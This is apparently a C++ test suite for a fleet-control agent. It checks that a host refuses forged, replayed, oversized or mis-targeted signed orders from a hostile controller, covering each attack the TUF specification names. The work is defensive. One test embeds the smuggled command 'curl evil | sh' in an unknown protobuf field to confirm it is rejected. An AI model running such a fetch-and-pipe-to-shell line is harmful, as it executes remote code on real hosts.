// Each attack that the TUF specification names (section 1.5.2), by a controller that owns its CA and its
// store, against a host whose operators it does not own (AUT-3). Each has a test, none an effect, each its
// own sentence; and before and after each, a good order has its effect. Those on the wire itself are in
// link_attacks_test.cc.

#include <array>
#include <iostream>
#include <set>

#include "tests/security/authority/hostile_controller/victim.h"

namespace cordon::testing {
namespace {

using Outcome = v1::OrderOutcome;

struct NamedAttack {
  const char* tuf;
  const char* test;
};
constexpr std::array kAttacks = {
    NamedAttack{"arbitrary installation attacks", "HostileController.AUT3_ArbitraryInstallation"},
    NamedAttack{"endless data attacks", "HostileController.AUT3_EndlessData"},
    NamedAttack{"endless data attacks (on the wire)", "HostileLink.AUT3_EndlessData"},
    NamedAttack{"extraneous dependencies attacks", "HostileController.AUT3_ExtraneousDependencies"},
    NamedAttack{"fast-forward attacks", "HostileController.AUT3_FastForward"},
    NamedAttack{"indefinite freeze attacks", "HostileController.AUT3_IndefiniteFreeze"},
    NamedAttack{"malicious mirrors preventing updates", "HostileLink.AUT3_MaliciousMirrors"},
    NamedAttack{"mix-and-match attacks", "HostileController.AUT3_MixAndMatch"},
    NamedAttack{"rollback attacks", "HostileController.AUT3_Rollback"},
    NamedAttack{"slow retrieval attacks", "HostileLink.AUT3_SlowRetrieval"},
    NamedAttack{"vulnerability to key compromises", "HostileController.AUT3_KeyCompromise"},
    NamedAttack{"wrong software installation", "HostileController.AUT3_WrongSoftwareInstallation"}};

TEST(HostileControllerList, AUT3_HasATestForEveryAttackThatTufNames) {
  std::set<std::string> tests;
  const auto& unit = *::testing::UnitTest::GetInstance();
  for (int i = 0; i < unit.total_test_suite_count(); ++i) {
    const auto& suite = *unit.GetTestSuite(i);
    for (int j = 0; j < suite.total_test_count(); ++j) {
      tests.insert(std::string(suite.name()) + "." + suite.GetTestInfo(j)->name());
    }
  }
  for (const NamedAttack& attack : kAttacks) {
    EXPECT_TRUE(tests.contains(attack.test)) << attack.tuf << " has no test";
    std::cout << "  " << attack.tuf << ": " << attack.test << "\n";
  }
}

class HostileController : public ::testing::Test {
 protected:
  HostileController() { ExpectStillObeysItsOwn(); }
  ~HostileController() override { ExpectStillObeysItsOwn(); }

  void ExpectStillObeysItsOwn() {
    victim_.ExpectObeyed(SignedBy(make_.Isolate(v1::LEVEL_ESSENTIAL), {&people_.alex}), v1::LEVEL_ESSENTIAL);
    victim_.ExpectObeyed(SignedBy(make_.Isolate(v1::LEVEL_NO_LATERAL), {&people_.alex}),
                         v1::LEVEL_NO_LATERAL);
  }
  v1::SignedOrder Dark(const std::vector<const TestOperator*>& people) {
    return SignedBy(make_.Isolate(v1::LEVEL_DARK), people);
  }

  People people_;
  Victim victim_{people_.bundle};
  OrderMaker make_{victim_, people_};
};

// Anything the controller makes itself, under its own name or another's.
TEST_F(HostileController, AUT3_ArbitraryInstallation) {
  victim_.ExpectRefused(SignedBy(make_.Release(), {}), "it is not signed");
  victim_.ExpectRefused(SignedBy(make_.Release(), {&people_.mallory}), "is not in the trust bundle");
  v1::SignedOrder as_alex = SignedBy(make_.Release(), {&people_.mallory});
  as_alex.mutable_signatures(0)->set_operator_id(people_.alex.id);
  victim_.ExpectRefused(as_alex, "is not one over these bytes");
  // Its own operators, by a trust bundle of its own.
  const v1::TrustBundle mine = people_.Next({&people_.mallory});
  victim_.ExpectRefused(SignedBy(make_.ChangeTrust(mine), {&people_.mallory}), "is not in the trust bundle");
}

TEST_F(HostileController, AUT3_EndlessData) {
  v1::SignedOrder huge = SignedBy(make_.Release(), {&people_.alex});
  huge.mutable_order()->append(kMaxOrderBytes, '\0');
  victim_.ExpectRefused(huge, "at most 4194304");
  v1::SignedOrder many = SignedBy(make_.Release(), {&people_.alex});
  while (many.signatures_size() <= kMaxSignatures) *many.add_signatures() = many.signatures(0);
  victim_.ExpectRefused(many, "17 signatures, at most 16");
  v1::SignedOrder long_name = SignedBy(make_.Release(), {&people_.alex});
  long_name.mutable_signatures(0)->set_operator_id(std::string(1 << 20, 'x'));
  victim_.ExpectRefused(long_name, "a signature is not of the right length");

  // A flood of refusals does not fill the spool: what is not told one by one is counted.
  constexpr int kFlood = 10'000;
  const size_t events = victim_.Events().Events().size();
  for (int i = 0; i < kFlood; ++i) victim_.Hear(SignedBy(v1::Order(), {}));
  EXPECT_LE(victim_.Events().Events().size() - events,
            static_cast<size_t>(agent::OrderGate::kRefusalEventsPerHour));
  victim_.Time().Advance(TestFleet::kHour);
  victim_.ExpectRefused(SignedBy(v1::Order(), {}), "refusals before it that were too many");
}

// Something more, put in or beside what the operators signed.
TEST_F(HostileController, AUT3_ExtraneousDependencies) {
  v1::SignedOrder order = SignedBy(make_.Release(), {&people_.alex});
  // Concatenated messages are merged by every protobuf parser: a target and an action beside the signed ones.
  v1::Order more;
  more.mutable_target()->set_all(true);
  more.mutable_isolate()->set_level(v1::LEVEL_DARK);
  more.mutable_isolate()->set_fallback(v1::FALLBACK_HOLD);
  order.mutable_order()->append(more.SerializeAsString());
  victim_.ExpectRefused(order, "must sign, 0 did");
  // An action that this version does not know, signed by an operator of a later one.
  v1::Order unknown = make_.Release();
  unknown.GetReflection()->MutableUnknownFields(&unknown)->AddLengthDelimited(99, "run: curl evil | sh");
  victim_.ExpectRefused(SignedBy(unknown, {&people_.alex}), "field 99: not known to this version");
  v1::TrustBundle bundle = people_.Next({&people_.alex, &people_.sam});
  bundle.GetReflection()->MutableUnknownFields(&bundle)->AddVarint(99, 1);
  victim_.ExpectRefused(SignedBy(make_.ChangeTrust(bundle), {&people_.alex, &people_.sam}),
                        "field 99: not known to this version");
}

// Numbers so high that everything the operators send afterwards would be old.
TEST_F(HostileController, AUT3_FastForward) {
  v1::Order far = make_.Release();
  far.set_sequence(UINT64_MAX);
  victim_.ExpectRefused(SignedBy(far, {&people_.mallory}), "sequence: more than an hour ahead");
  victim_.ExpectRefused(SignedBy(far, {&people_.alex}), "sequence: more than an hour ahead");
  v1::Order later = make_.Release();
  later.set_not_before_unix_nanos(victim_.Time().WallNanos() + 30 * 24 * TestFleet::kHour);
  later.set_expiry_unix_nanos(later.not_before_unix_nanos() + TestFleet::kHour);
  later.set_sequence(static_cast<uint64_t>(later.not_before_unix_nanos() / 1'000));
  victim_.ExpectRefused(SignedBy(later, {&people_.alex}), "the order is not valid before");
  v1::TrustBundle last = people_.Next({&people_.alex, &people_.sam});
  last.set_version(UINT64_MAX);
  victim_.ExpectRefused(SignedBy(make_.ChangeTrust(last), {&people_.alex}),
                        "2 operators with the role trust must sign, 1 did");
}

// Withholding is what a captured controller can do. It cannot make it last: a lease ends on its own, and what
// was withheld is no more use when its time is over.
TEST_F(HostileController, AUT3_IndefiniteFreeze) {
  v1::Order leased = make_.Isolate(v1::LEVEL_ESSENTIAL);
  leased.mutable_isolate()->mutable_lease()->mutable_length()->set_seconds(600);
  victim_.ExpectObeyed(SignedBy(leased, {&people_.alex}), v1::LEVEL_ESSENTIAL);
  const v1::SignedOrder withheld = SignedBy(make_.Isolate(v1::LEVEL_NO_LATERAL), {&people_.alex});
  for (int second = 0; second < 601; ++second) {
    victim_.Time().Advance(kNanosPerSecond);
    victim_.TheIsolation().Tick();
  }
  EXPECT_EQ(victim_.Standing().level, v1::LEVEL_OBSERVE) << "the lease did not end";
  victim_.Time().Advance(2 * TestFleet::kHour);
  victim_.ExpectRefused(withheld, "the order expired at", Outcome::STATE_EXPIRED);
  // By setting the host's clock back it is not revived: the lane has moved on.
  ExpectStillObeysItsOwn();
  victim_.Time().SetWall(withheld.order().empty() ? 0 : WallNowNanos());
  victim_.ExpectRefused(withheld, "a newer order came first", Outcome::STATE_SUPERSEDED);
  victim_.Time().SetWall(WallNowNanos() + 4 * TestFleet::kHour);
}

// Good pieces of different orders.
TEST_F(HostileController, AUT3_MixAndMatch) {
  const v1::SignedOrder by_alex = Dark({&people_.alex});
  const v1::SignedOrder by_sam = Dark({&people_.sam});
  v1::SignedOrder both = by_alex;
  *both.add_signatures() = by_sam.signatures(0);
  victim_.ExpectRefused(both, "2 operators with the role isolate must sign, 1 did");
  v1::SignedOrder swapped = SignedBy(make_.Release(), {&people_.alex});
  *swapped.mutable_signatures() = by_alex.signatures();
  victim_.ExpectRefused(swapped, "is not one over these bytes");

  // A new trust bundle under an order that the operators signed for another, and signed inside by old custom.
  const v1::TrustBundle good = people_.Next({&people_.alex, &people_.sam, &people_.kim});
  const v1::TrustBundle bad = people_.Next({&people_.alex, &people_.sam, &people_.mallory});
  v1::SignedOrder mixed = SignedBy(make_.ChangeTrust(bad), {});
  *mixed.mutable_signatures() = SignedBy(make_.ChangeTrust(good), {&people_.alex, &people_.sam}).signatures();
  victim_.ExpectRefused(mixed, "2 operators with the role trust must sign, 0 did");
  v1::Order inner = make_.ChangeTrust(good);
  v1::Signature* signature = inner.mutable_trust()->mutable_bundle()->add_signatures();
  signature->set_operator_id(people_.alex.id);
  signature->set_ed25519(Must(Sign(kTrustDomain, inner.trust().bundle().bundle(), *people_.alex.key)));
  victim_.ExpectRefused(SignedBy(inner, {&people_.alex, &people_.sam}), "signed by the order alone");
}

TEST_F(HostileController, AUT3_Rollback) {
  const v1::SignedOrder open = SignedBy(make_.Release(), {&people_.alex});
  victim_.ExpectObeyed(open, v1::LEVEL_OBSERVE);
  victim_.ExpectObeyed(SignedBy(make_.Isolate(v1::LEVEL_ESSENTIAL), {&people_.alex}), v1::LEVEL_ESSENTIAL);
  victim_.ExpectRefused(open, "a newer order came first", Outcome::STATE_SUPERSEDED);
  victim_.Start();
  victim_.ExpectRefused(open, "a newer order came first", Outcome::STATE_SUPERSEDED);

  // Trust: back to a version whose operators were since removed.
  const v1::SignedOrder second = SignedBy(make_.ChangeTrust(people_.Next({&people_.alex, &people_.kim})),
                                          {&people_.alex, &people_.sam, &people_.kim});
  v1::TrustBundle third = people_.Next({&people_.alex, &people_.kim});
  third.set_version(3);
  const v1::SignedOrder to_third = SignedBy(make_.ChangeTrust(third), {&people_.alex, &people_.kim});
  victim_.ExpectObeyed(second, {.level = v1::LEVEL_ESSENTIAL, .trust_version = 2, .lanes = {}});
  victim_.ExpectObeyed(to_third, {.level = v1::LEVEL_ESSENTIAL, .trust_version = 3, .lanes = {}});
  victim_.ExpectRefused(second, "the new trust bundle has version 2, not above 3");
  victim_.Start();
  victim_.ExpectRefused(second, "the new trust bundle has version 2, not above 3");
  victim_.ExpectRefused(SignedBy(make_.Release(), {&people_.sam}), "is not in the trust bundle");
}

// One operator's key is stolen, and the controller with it.
TEST_F(HostileController, AUT3_KeyCompromise) {
  victim_.ExpectRefused(Dark({&people_.alex}), "2 operators with the role isolate must sign, 1 did");
  victim_.ExpectRefused(Dark({&people_.alex, &people_.alex}), "signed twice, which counts once");
  v1::SignedOrder renamed = Dark({&people_.alex, &people_.alex});
  renamed.mutable_signatures(1)->set_operator_id(people_.sam.id);
  victim_.ExpectRefused(renamed, "is not one over these bytes");
  v1::Order all = make_.Release();
  all.mutable_target()->set_all(true);
  victim_.ExpectRefused(SignedBy(all, {&people_.alex}), "2 operators with the role isolate must sign, 1 did");
  const v1::TrustBundle mine = people_.Next({&people_.alex, &people_.mallory});
  victim_.ExpectRefused(SignedBy(make_.ChangeTrust(mine), {&people_.alex, &people_.mallory}),
                        "2 operators with the role trust must sign, 1 did");

  // The others take the key out: from then on it opens nothing.
  const v1::TrustBundle without = people_.Next({&people_.sam, &people_.kim});
  victim_.ExpectObeyed(SignedBy(make_.ChangeTrust(without), {&people_.alex, &people_.sam, &people_.kim}),
                       {.level = v1::LEVEL_NO_LATERAL, .trust_version = 2, .lanes = {}});
  victim_.ExpectRefused(SignedBy(make_.Release(), {&people_.alex}), "is not in the trust bundle");
  // For the control at the end: alex comes back by those who are left.
  v1::TrustBundle back = people_.Next({&people_.alex, &people_.sam, &people_.kim});
  back.set_version(3);
  victim_.ExpectObeyed(SignedBy(make_.ChangeTrust(back), {&people_.sam, &people_.kim}),
                       {.level = v1::LEVEL_NO_LATERAL, .trust_version = 3, .lanes = {}});
}

// A good order that is not for this host.
TEST_F(HostileController, AUT3_WrongSoftwareInstallation) {
  v1::Order other = make_.Release();
  other.mutable_target()->mutable_hosts(0)->set_host_id(NewUuid());
  victim_.ExpectRefused(SignedBy(other, {&people_.alex}), "the order is not for this host");
  v1::Order wrong_name = make_.Release();
  wrong_name.mutable_target()->mutable_hosts(0)->set_name("server");
  victim_.ExpectRefused(SignedBy(wrong_name, {&people_.alex}), "the order is not for this host");
  v1::Order elsewhere = make_.Release();
  elsewhere.clear_target();
  elsewhere.mutable_target()->add_sites("york");
  victim_.ExpectRefused(SignedBy(elsewhere, {&people_.alex}), "the order is not for this host");
  v1::Order fleet = make_.Release();
  fleet.set_fleet_id(NewUuid());
  victim_.ExpectRefused(SignedBy(fleet, {&people_.alex}), "it is for fleet");
}

}  // namespace
}  // namespace cordon::testing
